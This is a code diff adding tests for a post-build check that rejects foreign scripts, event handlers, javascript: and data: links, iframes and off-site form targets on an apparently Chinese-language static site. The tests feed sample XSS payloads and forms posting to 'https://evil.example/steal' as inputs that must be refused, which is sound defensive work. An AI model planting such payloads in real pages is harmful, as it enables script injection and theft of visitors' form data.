@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
@@ -6,6 +7,7 @@ import {
   internalLinksResolve,
   noOtherOriginLoads,
   oneH1,
+  onlyOwnCode,
   strictCsp,
   titleAndDescription,
   validHtml,
@@ -40,7 +42,7 @@ function check(fn: typeof oneH1, files: Record<string, string | Buffer>, file = 
 describe('post-build checks', () => {
   it('pass a well-formed page', () => {
     const files = { 'index.html': page({ body: '<h1>标题</h1><a href="/a/#x">去A</a>' }), 'a/index.html': page({ body: '<h1 id="x">A</h1>' }) };
-    for (const fn of [validHtml, oneH1, titleAndDescription, internalLinksResolve, noOtherOriginLoads, strictCsp, weightBudget]) {
+    for (const fn of [validHtml, oneH1, titleAndDescription, internalLinksResolve, noOtherOriginLoads, strictCsp, onlyOwnCode, weightBudget]) {
       expect(check(fn, files)).toEqual([]);
     }
   });
@@ -123,5 +125,40 @@ describe('post-build checks', () => {
     };
     expect(check(weightBudget, files)[0]).toMatch(/HTML \+ CSS is \d+ B gzip, over the 14950 B budget/);
     expect(check(weightBudget, files, 'x/index.html')).toEqual([expect.stringMatching(/JavaScript \d+ B gzip is over the 3072 B budget/)]);
+  });
+
+  describe('only the site\'s own scripts, forms and link schemes', () => {
+    const boot = 'document.documentElement.dataset.size = "l";';
+    const bootHash = `sha256-${createHash('sha256').update(boot).digest('base64')}`;
+    const csp = CSP.replace("'sha256-abc'", `'${bootHash}'`);
+    const problemsOf = (body: string, head = '') => check(onlyOwnCode, { 'index.html': page({ csp, head, body: `<h1>标题</h1>${body}` }) });
+
+    it('accept what the site itself ships', () => {
+      const head = `<script>${boot}</script><script type="module" src="/_astro/DisplayControls.BloNta1Y.js"></script><script type="application/ld+json">{"@type":"WebPage"}</script>`;
+      const body = [
+        '<form role="search" action="/search/" method="get"><input name="q" aria-label="搜索"></form>',
+        '<form id="events-filter"><button formaction="?page=2">下一页</button></form>',
+        '<script type="application/json" id="checker-ruleset">{"rules":[]}</script>',
+        '<a href="/checker/#applicant=enterprise">自测</a><a href="https://www.gov.cn/">国务院</a><a href="tel:0871-00000000">电话</a><a href="mailto:a@example.test">邮件</a><a href="#top">顶部</a>',
+      ].join('');
+      expect(problemsOf(body, head)).toEqual([]);
+    });
+
+    it.each([
+      ['an inline script the CSP does not list', '<script>alert(1)</script>', 'inline <script> "alert(1)": its hash is not in the page\'s CSP, so it is not one of the site\'s own'],
+      ['a script from another origin', '<script src="https://evil.example/x.js"></script>', '<script src="https://evil.example/x.js">: only the site\'s own scripts from /_astro/ may load'],
+      ['a same-origin script outside /_astro/', '<script src="/uploads/x.js"></script>', '<script src="/uploads/x.js">: only the site\'s own scripts from /_astro/ may load'],
+      ['an onerror handler', '<img src="/x.png" alt="" onerror="alert(1)">', '<img onerror="alert(1)">: event-handler attributes are not allowed'],
+      ['an onclick handler', '<p onClick="alert(1)">文字</p>', '<p onclick="alert(1)">: event-handler attributes are not allowed'],
+      ['a javascript: link', '<a href=" JavaScript:alert(1)">报名</a>', '<a href=" JavaScript:alert(1)">: the javascript: scheme is not allowed (only https, http, tel, mailto and paths on this site)'],
+      ['an iframe', '<iframe src="/x/" title="x"></iframe>', '<iframe> is not allowed on the site'],
+      ['an object', '<object data="/x.swf"></object>', '<object> is not allowed on the site'],
+      ['a form posting to another origin', '<form action="https://evil.example/steal" method="post"></form>', '<form action="https://evil.example/steal">: a form may only submit to this site'],
+      ['a form posting to a protocol-relative address', '<form action="//evil.example/steal"></form>', '<form action="//evil.example/steal">: a form may only submit to this site'],
+      ['a button that submits elsewhere', '<form action="/search/"><button formaction="https://evil.example/">提交</button></form>', '<button formaction="https://evil.example/">: a form may only submit to this site'],
+      ['a data: URL', '<a href="data:text/html,%3Cscript%3E">下载</a>', '<a href="data:text/html,%3Cscript%3E">: the data: scheme is not allowed (only https, http, tel, mailto and paths on this site)'],
+    ])('refuse %s, naming the element and attribute', (_, body, problem) => {
+      expect(problemsOf(body)).toEqual([problem]);
+    });
   });
 });
